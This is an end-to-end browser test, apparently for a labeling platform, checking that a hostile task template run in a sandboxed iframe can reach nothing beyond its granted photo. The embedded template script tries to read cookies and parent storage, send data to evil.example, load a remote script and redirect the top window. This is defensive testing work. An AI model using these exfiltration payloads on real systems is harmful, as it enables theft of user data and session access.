"""A hostile template in a real browser: it is shown, its granted photo is read, and it reaches nothing else."""

import json
from collections.abc import Callable
from typing import Any

from playwright.sync_api import Browser, Page

from tests.end_to_end.client import photo

#: Each attempt's outcome, as text; `done` when all are over.
TEMPLATE = """<!DOCTYPE html><html><head><script src="https://assets.crowd.aws/crowd-html-elements.js"></script></head><body>
<crowd-form><crowd-semantic-segmentation name="annotator" src="{{ task.input.taskObject | grant_read_access }}"
labels="{{ task.input.labels | to_json | escape }}"></crowd-semantic-segmentation><p>More than plain</p></crowd-form>
<script>
const tried = {};
function now(name, attempt) {
  try { tried[name] = "got " + attempt(); } catch (error) { tried[name] = error.name; }
}
async function later(name, attempt) {
  try { tried[name] = "got " + await attempt(); } catch (error) { tried[name] = error.name || "Error"; }
}
function picture(address, readable) {
  return new Promise((found, lost) => {
    const image = new Image();
    if (readable) image.crossOrigin = "anonymous";
    image.onload = () => {
      const canvas = document.createElement("canvas");
      canvas.width = image.naturalWidth; canvas.height = image.naturalHeight;
      const context = canvas.getContext("2d");
      context.drawImage(image, 0, 0);
      found(readable ? context.getImageData(0, 0, 1, 1).data.length : image.naturalWidth);
    };
    image.onerror = () => lost(new Error("not loaded"));
    image.src = address;
  });
}
const own = "{{ task.input.taskObject | grant_read_access }}", site = new URL(own).origin;
now("cookie", () => document.cookie);
now("storage", () => localStorage.length);
now("parent", () => parent.document.title);
now("parent storage", () => parent.localStorage.length);
now("origin", () => self.origin);
now("frame element", () => frameElement.id);
now("leave", () => { top.location = "https://evil.example/"; return "away"; });
now("window", () => window.open("https://evil.example/").name);
const all = [
  later("photo", () => picture(own, true)),
  later("api", () => fetch(site + "/api/v1/work/overview", { credentials: "include" }).then((it) => it.status)),
  later("page", () => fetch(site + "/work/", { credentials: "include", mode: "no-cors" }).then((it) => it.type)),
  later("elsewhere", () => fetch("https://evil.example/?" + own, { mode: "no-cors" }).then((it) => it.type)),
  later("beacon", () => picture("https://evil.example/beacon.png")),
  later("site picture", () => picture(site + "/api/v1/work/overview")),
  later("script", () => new Promise((found, lost) => {
    const script = document.createElement("script");
    script.onload = () => found("ran"); script.onerror = () => lost(new Error("not loaded"));
    script.src = "https://evil.example/a.js";
    document.head.append(script);
  })),
  later("socket", () => new Promise((found, lost) => {
    const socket = new WebSocket(site.replace("http", "ws") + "/ws/");
    socket.onopen = () => found("open"); socket.onerror = () => lost(new Error("closed"));
  })),
  later("frame", () => new Promise((found) => {
    const inner = document.createElement("iframe");
    inner.onload = () => found("loaded " + (inner.contentDocument ? "and read" : "and not read"));
    setTimeout(() => found("never"), 2000);
    inner.src = site + "/work/";
    document.body.append(inner);
  })),
];
Promise.all(all).then(() => { tried.form = String(!!customElements.get("crowd-form")); window.done = true; });
window.tried = tried;
</script></body></html>"""

_EMBED = """(address) => new Promise((found) => {
  const frame = document.createElement("iframe");
  frame.sandbox = "allow-scripts allow-forms allow-modals";
  frame.onload = () => found(true);
  frame.src = address;
  frame.id = "hostile";
  document.body.append(frame);
})"""


def _outcome(frame: Any) -> dict[str, str]:
    frame.wait_for_function("() => window.done === true", timeout=20_000)
    return dict(json.loads(frame.evaluate("() => JSON.stringify(window.tried)")))


def _check(found: dict[str, str], ends: list[tuple[str, str]]) -> None:
    """`ends`: of each request its address, and why it failed; the browser tells of those that it did not let out."""
    assert found.pop("photo") == "got 4"
    assert found.pop("origin") == "got null"
    assert found.pop("form") == "true"
    assert found.pop("frame") in ("got never", "got loaded and not read")
    assert {name: text for name, text in found.items() if text.startswith("got ")} == {}
    assert {end for address, end in ends if "evil.example" in address} <= {"csp"}


def test_a_hostile_template_reaches_nothing(make_cast: Callable[..., Any], browser: Browser) -> None:
    cast = make_cast(labelers=1)
    manager, labeler = cast.client("manager"), cast.client("labeler1")
    template = manager.create_template("a page", source=TEMPLATE)
    job = manager.order_job("hostile", {"a.png": photo(1)}, cast.ids("labeler1"), task_template_id=template)
    manager.start_job(job)
    address = labeler.wait_for_claim(job)["frame"]["url"]
    person = cast.at_browser(browser, "labeler1")
    person.sign_in()
    page: Page = person.page
    ends: list[tuple[str, str]] = []
    page.context.on("requestfinished", lambda request: ends.append((request.url, "")))
    page.context.on("requestfailed", lambda request: ends.append((request.url, str(request.failure))))

    page.goto(cast.stack.address + address)
    assert "shown inside of another one" in page.locator("body").inner_text()

    page.goto(cast.stack.address + "/work/time/")
    ends.clear()
    page.evaluate(_EMBED, address)
    frame = next(one for one in page.frames if address in one.url)
    _check(_outcome(frame), ends)
    assert page.url.endswith("/work/time/")

    # Nor does it take anything along by leading its own frame elsewhere: the page around it allows none.
    frame.evaluate("() => { location = 'https://evil.example/?away'; }")
    page.wait_for_timeout(1500)
    assert all("csp" in end.lower() for where, end in ends if "?away" in where), ends
    assert "evil.example" not in frame.url or not frame.evaluate("() => location.href").startswith("https:")
